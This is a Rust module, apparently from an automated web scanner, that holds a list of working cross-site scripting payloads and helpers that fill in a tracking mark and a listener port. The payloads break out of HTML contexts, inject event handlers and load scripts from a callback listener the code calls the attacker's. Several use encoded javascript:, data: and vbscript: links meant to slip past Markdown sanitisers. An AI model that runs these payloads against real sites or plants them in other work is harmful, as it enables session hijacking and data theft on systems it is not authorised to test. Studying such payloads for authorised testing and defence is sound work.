//! What fields are filled with. Each payload has a mark, so that it is known again wherever it comes to stand.

/// From the shortest, for fields that hold little; `MARK` is the mark, `PORT` where the attacker listens.
pub const PAYLOADS: [&str; 4] = [
    "'\"><i onx=MARK>",
    "'\"><img src=MARK onerror=alert(1)>",
    "MARK'\"></title></textarea><script>hear('MARK')</script><MARK MARK=1>",
    // Out of every place where text stands, then everything that Markdown can be made to say.
    "MARK'\"></title></textarea></script></style>--><script>hear('MARK')</script><MARK MARK=1>\
    <img src=x onerror=\"hear('MARK')\"><svg/onload=hear('MARK')><iframe srcdoc=\"<script>parent.hear(1)</script>\">\
    </iframe><script src=\"http://127.0.0.1:PORT/MARK\"></script>{{ 7 * 7 }}${7*7}\r\n\r\n\
    [a](javascript:hear('MARK')) [b](JaVaScRiPt&colon;hear(1)) [c](java&#10;script:hear(1)) [d](&#106;avascript:hear(1)) \
    [e](\u{1}javascript:hear(1)) [f](data:text/html,<script>hear(1)</script>) [g](vbscript:hear(1)) <javascript:hear(1)> \
    <a@b.cz\"onclick=hear(1)> [h](/x \"\\\"onmouseover=\\\"hear(1)\") [i] [j](<javascript:hear(1)>)\r\n\
    ![k](javascript:hear(1)) ![l](upload:\"onerror=\"hear(1)) ![m](u/../x\"onerror=\"hear(1)) \
    ![n](http://127.0.0.1:PORT/MARK/pixel) ![\"onerror=\"hear(1)](/uploads/u/x.png)\r\n\r\n\
    [i]: javascript:hear(1) \"title\"\r\n\r\n\
    # \"><MARK onx=1>\r\n\r\n```\"><MARK onx=1>\r\n</code></pre><MARK onx=1>\r\n```\r\n\r\n\
    | \"><MARK onx=1> |\r\n|---|\r\n| <MARK onx=1> |\r\n\r\n[^1]\r\n\r\n[^1]: <MARK onx=1>\r\n",
];

/// What an address becomes that is no address of the web.
pub const ADDRESS: &str = "javascript:hear('MARK')//'\"><MARK onx=1>";

/// A payload with its mark.
pub fn marked(payload: &str, mark: &str, port: u16) -> String {
    payload.replace("MARK", mark).replace("PORT", &port.to_string())
}

/// The longest payload that a field holds, by the limit that its form names.
pub fn fitting(mark: &str, port: u16, chars_max: i64) -> String {
    let all = PAYLOADS.map(|payload| marked(payload, mark, port));
    let fits = |payload: &&String| chars_max < 0 || payload.chars().count() <= usize::try_from(chars_max).unwrap_or(0);
    all.iter().rev().find(fits).unwrap_or(&all[0]).clone()
}
